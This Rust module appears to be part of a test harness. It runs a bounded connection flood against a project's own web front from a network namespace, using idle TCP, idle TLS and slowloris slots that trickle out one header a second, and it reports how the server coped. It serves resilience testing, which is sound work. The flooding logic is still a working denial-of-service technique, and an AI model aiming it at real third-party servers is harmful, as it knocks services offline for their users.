//! A connection-flooding attacker for the web front: idle TCP connections (never a TLS
//! handshake), idle TLS connections (handshake, then nothing) and slowloris connections
//! (handshake, then a request head one header line a second), from several source addresses
//! of a namespace. Every slot reconnects when the server closes it, as an attacker would.
//! Bounded in count (the slots) and time (`duration`, and [`Flood::stop`]).
use std::{
    net::{IpAddr, SocketAddr},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::NetNs;

/// What to flood with.
#[derive(Clone, Debug)]
pub struct FloodSpec {
    /// The web front.
    pub target: SocketAddr,
    /// Source addresses (present in the flooding namespace), used in turn by the slots.
    pub sources: Vec<IpAddr>,
    /// Connections that never start TLS.
    pub idle_tcp: usize,
    /// Connections that finish the TLS handshake and then send nothing.
    pub idle_tls: usize,
    /// Connections that send a request head slowly, one header line a second.
    pub slowloris: usize,
    /// How long a slot waits before reconnecting after the server closed it.
    pub reconnect: Duration,
    /// How long the slots are opened over (staggered, so the accept queue is not the limit).
    pub ramp: Duration,
    /// The flood stops by itself after this long.
    pub duration: Duration,
}

/// What the attacker saw.
#[derive(Clone, Copy, Debug, Default)]
pub struct FloodReport {
    /// Connections established (TCP connect done).
    pub opened: u64,
    /// Connections the server closed (refused, reclaimed or timed out).
    pub closed_by_server: u64,
    /// Connection attempts that failed or timed out.
    pub failed: u64,
    /// Most connections held at once.
    pub held_peak: u64,
}

#[derive(Default)]
struct Counters {
    opened: AtomicU64,
    closed_by_server: AtomicU64,
    failed: AtomicU64,
    held: AtomicU64,
    held_peak: AtomicU64,
}

impl Counters {
    fn hold(&self) {
        let now = self.held.fetch_add(1, Ordering::Relaxed) + 1;
        self.held_peak.fetch_max(now, Ordering::Relaxed);
    }

    fn release(&self) {
        self.held.fetch_sub(1, Ordering::Relaxed);
    }
}

/// A running flood.
pub struct Flood {
    stop: Arc<AtomicBool>,
    counters: Arc<Counters>,
    thread: Option<thread::JoinHandle<()>>,
}

#[derive(Clone, Copy)]
enum Kind {
    Tcp,
    Tls,
    Slowloris,
}

impl Flood {
    /// Starts the flood from namespace `ns`; TLS slots use `tls` (it must accept the front's
    /// certificate).
    pub fn start(ns: &NetNs, spec: FloodSpec, tls: Arc<rustls::ClientConfig>) -> Flood {
        assert!(!spec.sources.is_empty(), "a flood needs source addresses");
        let stop = Arc::new(AtomicBool::new(false));
        let counters = Arc::new(Counters::default());
        let name = ns.name().to_owned();
        let (stop2, counters2) = (stop.clone(), counters.clone());
        let thread = thread::Builder::new()
            .name("flood".into())
            .spawn(move || {
                crate::in_netns(&name, move || {
                    let runtime = tokio::runtime::Builder::new_current_thread()
                        .enable_all()
                        .build()
                        .unwrap_or_else(|e| panic!("flood runtime: {e}"));
                    runtime.block_on(flood(spec, tls, stop2, counters2));
                });
            })
            .unwrap_or_else(|e| panic!("starting the flood thread: {e}"));
        Flood {
            stop,
            counters,
            thread: Some(thread),
        }
    }

    /// Connections held now.
    pub fn held(&self) -> u64 {
        self.counters.held.load(Ordering::Relaxed)
    }

    /// Stops every slot (their connections close) and returns what was seen.
    pub fn stop(mut self) -> FloodReport {
        self.stop_now();
        FloodReport {
            opened: self.counters.opened.load(Ordering::Relaxed),
            closed_by_server: self.counters.closed_by_server.load(Ordering::Relaxed),
            failed: self.counters.failed.load(Ordering::Relaxed),
            held_peak: self.counters.held_peak.load(Ordering::Relaxed),
        }
    }

    fn stop_now(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop_now();
    }
}

async fn flood(
    spec: FloodSpec,
    tls: Arc<rustls::ClientConfig>,
    stop: Arc<AtomicBool>,
    counters: Arc<Counters>,
) {
    let deadline = Instant::now() + spec.duration;
    let kinds = std::iter::repeat_n(Kind::Tcp, spec.idle_tcp)
        .chain(std::iter::repeat_n(Kind::Tls, spec.idle_tls))
        .chain(std::iter::repeat_n(Kind::Slowloris, spec.slowloris));
    let total = spec.idle_tcp + spec.idle_tls + spec.slowloris;
    let mut slots = tokio::task::JoinSet::new();
    for (i, kind) in kinds.enumerate() {
        let source = spec.sources[i % spec.sources.len()];
        let delay = spec.ramp.mul_f64(i as f64 / total.max(1) as f64);
        let (stop, counters, tls) = (stop.clone(), counters.clone(), tls.clone());
        let (target, reconnect) = (spec.target, spec.reconnect);
        slots.spawn(async move {
            tokio::time::sleep(delay).await;
            while !stop.load(Ordering::Relaxed) && Instant::now() < deadline {
                slot(kind, source, target, &tls, &stop, deadline, &counters).await;
                // An attacker comes back, but not in a busy loop.
                tokio::time::sleep(reconnect).await;
            }
        });
    }
    while slots.join_next().await.is_some() {}
}

/// A TCP connection to `target` from the local address `source`.
pub async fn connect_from(
    source: IpAddr,
    target: SocketAddr,
) -> std::io::Result<tokio::net::TcpStream> {
    let socket = if source.is_ipv4() {
        tokio::net::TcpSocket::new_v4()
    } else {
        tokio::net::TcpSocket::new_v6()
    }?;
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(target).await
}

/// One connection's life; returns when the server closed it or the flood stops.
async fn slot(
    kind: Kind,
    source: IpAddr,
    target: SocketAddr,
    tls: &Arc<rustls::ClientConfig>,
    stop: &AtomicBool,
    deadline: Instant,
    counters: &Counters,
) {
    let Ok(Ok(mut tcp)) =
        tokio::time::timeout(Duration::from_secs(5), connect_from(source, target)).await
    else {
        counters.failed.fetch_add(1, Ordering::Relaxed);
        return;
    };
    counters.opened.fetch_add(1, Ordering::Relaxed);
    counters.hold();
    let stopped = || stop.load(Ordering::Relaxed) || Instant::now() >= deadline;
    let closed = match kind {
        Kind::Tcp => wait_closed(&mut tcp, &stopped).await,
        Kind::Tls | Kind::Slowloris => {
            let name = rustls::pki_types::ServerName::IpAddress(target.ip().into());
            let handshake = tokio_rustls::TlsConnector::from(tls.clone()).connect(name, tcp);
            match tokio::time::timeout(Duration::from_secs(10), handshake).await {
                Ok(Ok(mut stream)) => {
                    if matches!(kind, Kind::Slowloris) {
                        slowloris(&mut stream, &stopped).await
                    } else {
                        wait_closed(&mut stream, &stopped).await
                    }
                }
                _ => true,
            }
        }
    };
    counters.release();
    if closed {
        counters.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

/// Reads until the server closes (true) or the flood stops (false).
async fn wait_closed(
    stream: &mut (impl tokio::io::AsyncRead + Unpin),
    stopped: &impl Fn() -> bool,
) -> bool {
    let mut buf = [0u8; 512];
    loop {
        match tokio::time::timeout(Duration::from_millis(250), stream.read(&mut buf)).await {
            Ok(Ok(0) | Err(_)) => return true,
            Ok(Ok(_)) => {}
            Err(_) if stopped() => return false,
            Err(_) => {}
        }
    }
}

/// Sends a request head one line a second until the server closes (true) or the flood
/// stops (false).
async fn slowloris(
    stream: &mut (impl tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin),
    stopped: &impl Fn() -> bool,
) -> bool {
    if stream
        .write_all(b"POST /v1/approvals HTTP/1.1\r\nHost: front\r\n")
        .await
        .is_err()
    {
        return true;
    }
    let mut line = 0u32;
    let mut buf = [0u8; 512];
    loop {
        match tokio::time::timeout(Duration::from_secs(1), stream.read(&mut buf)).await {
            Ok(Ok(0) | Err(_)) => return true,
            Ok(Ok(_)) => {}
            Err(_) if stopped() => return false,
            Err(_) => {
                line += 1;
                if stream
                    .write_all(format!("X-Slow-{line}: a\r\n").as_bytes())
                    .await
                    .is_err()
                {
                    return true;
                }
            }
        }
    }
}
